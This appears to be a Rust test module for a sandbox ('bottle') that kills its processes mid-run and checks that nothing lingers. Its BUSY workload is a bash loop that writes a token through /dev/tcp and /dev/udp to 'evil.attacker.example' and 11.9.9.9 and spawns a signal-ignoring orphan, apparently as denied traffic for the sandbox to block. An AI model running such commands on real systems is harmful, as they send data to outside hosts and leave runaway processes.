//! What is a bottle that a fault strikes? One whose workload connects, is denied and leaves children behind, without end.

use std::path::PathBuf;
use std::time::{Duration, Instant};

use bottle_lab::addresses::WEB;
use bottle_lab::{Answer, Options};
use rustix::process::Signal;

use crate::aftermath::Aftermath;
use crate::family;
use crate::moments::is_long;
use crate::running::{Held, Running};
use crate::world::{ALLOW_ECHO, LIMIT, World, text};

/// Each process that a fault can strike.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Victim {
    Supervisor,
    Builder,
    Gate,
    Dialler,
    Init,
}

/// Allowed and denied connections, names and datagrams, one after the other, for ever; and a child that ignores signals.
const BUSY: &str = "echo > ran; (trap '' HUP TERM INT; setsid sleep 1000 &)
turn() { exec 3<>/dev/tcp/web.lab.example/7 && echo token >&3 && read -r -t 9 line <&3; exec 3>&- 3<&-
    exec 3<>/dev/tcp/evil.attacker.example/9; exec 3<>/dev/tcp/11.9.9.9/9 && echo token >&3; exec 3>&- 3<&-
    echo token > /dev/udp/11.9.9.9/9; }
turn 2>/dev/null; echo ready; while :; do turn; done 2>/dev/null";

/// A world, and the bottle that is struck next.
pub struct Scene {
    pub world: World,
    pub aftermath: Aftermath,
    number: usize,
}

impl Scene {
    pub fn new() -> Scene {
        Scene::with(Options::default())
    }

    /// For a crowd, of which nobody could keep every packet.
    pub fn without_capture() -> Scene {
        Scene::with(Options::default().without_capture())
    }

    /// The name that is allowed has one address. Of two, a dialler that waits long for the first tries the second beside
    /// it, as every browser does; then more connections arrive than were allowed, and one of them stays empty.
    pub fn with(options: Options) -> Scene {
        family::adopt_orphans();
        let one_address = Answer::Addresses(vec![WEB.into()], 60);
        let world = World::alone_in(options.name("web.lab.example", one_address));
        let aftermath = Aftermath::before(&world);
        Scene { world, aftermath, number: 0 }
    }

    /// The log of the bottle that was started last.
    pub fn audit(&self) -> PathBuf {
        self.world.path(&format!("audit-{}.jsonl", self.number))
    }

    /// The options of a bottle with a log of its own, that may reach the echo service.
    pub fn options(&self) -> Vec<String> {
        let audit = self.audit();
        // None lives longer than its row does: half an hour, or until two hundred have started.
        let limit = if is_long() { "3600" } else { "300" };
        ["run", "--timeout", limit, "--audit", text(&audit)].into_iter().chain(ALLOW_ECHO).map(str::to_owned).collect()
    }

    /// Starts a bottle with a fresh log, whose workload is busy.
    pub fn busy(&mut self) -> Running {
        self.start(&["host", "--", "bash", "-c", BUSY])
    }

    /// The same with limits, which take control groups.
    pub fn limited(&mut self) -> Running {
        self.start(&["--memory", "256m", "--cpus", "1", "--pids-limit", "200", "host", "--", "bash", "-c", BUSY])
    }

    /// A fresh log for the next bottle.
    pub fn begin(&mut self) {
        self.number += 1;
        let _ = std::fs::remove_file(self.world.project("ran"));
    }

    /// Starts a bottle with a fresh log.
    pub fn start(&mut self, command: &[&str]) -> Running {
        self.begin();
        let options = self.options();
        let words: Vec<&str> = options.iter().map(String::as_str).chain(command.iter().copied()).collect();
        Running::start(self.world.bottle(&words))
    }

    /// Asserts that nothing is left, whatever struck it, and that the next start is clean.
    pub fn assert_clean(&self, what: &str) {
        self.assert_nothing_left(what);
        self.aftermath.assert_next_start(&self.world, &self.audit(), what);
    }

    /// The same without the next start, for a row that strikes many bottles.
    pub fn assert_nothing_left(&self, what: &str) {
        self.aftermath.assert_nothing_left(&self.world, &self.audit(), what);
    }
}

impl Victim {
    fn role(self) -> &'static str {
        match self {
            Victim::Supervisor => "bottle",
            Victim::Builder => "bottle-builder",
            Victim::Gate => "bottle-gate",
            Victim::Dialler => "bottle-dialler",
            Victim::Init => "bottle-init",
        }
    }

    /// The process itself, if it is there now.
    pub fn find(self, running: &Running) -> Option<Held> {
        match self {
            Victim::Supervisor => Held::find(running.pid()),
            _ => Held::find(family::in_role(running.pid(), self.role())?),
        }
    }

    /// Waits for it to appear; not at all where it never does.
    pub fn await_birth(self, running: &Running) -> Option<Held> {
        let deadline = Instant::now() + LIMIT;
        let supervisor = Held::new(running.pid());
        while Instant::now() < deadline && !supervisor.ends_within(Duration::ZERO) {
            if let Some(victim) = self.find(running) {
                return Some(victim);
            }
            std::thread::yield_now();
        }
        None
    }

    /// How long it lives in a bottle that nothing strikes: to its end, or to some rounds of the workload's.
    pub fn span(self, scene: &mut Scene) -> Duration {
        const ROUNDS: Duration = Duration::from_millis(150);
        let running = scene.busy();
        let victim = self.await_birth(&running).unwrap_or_else(|| panic!("no {self:?}"));
        let born = Instant::now();
        let handed_over = (self == Victim::Builder && victim.ends_within(LIMIT)).then(|| born.elapsed());
        let running = running.ready();
        let span = handed_over.unwrap_or(born.elapsed() + ROUNDS);
        running.signal(Signal::KILL);
        running.bury();
        span
    }
}
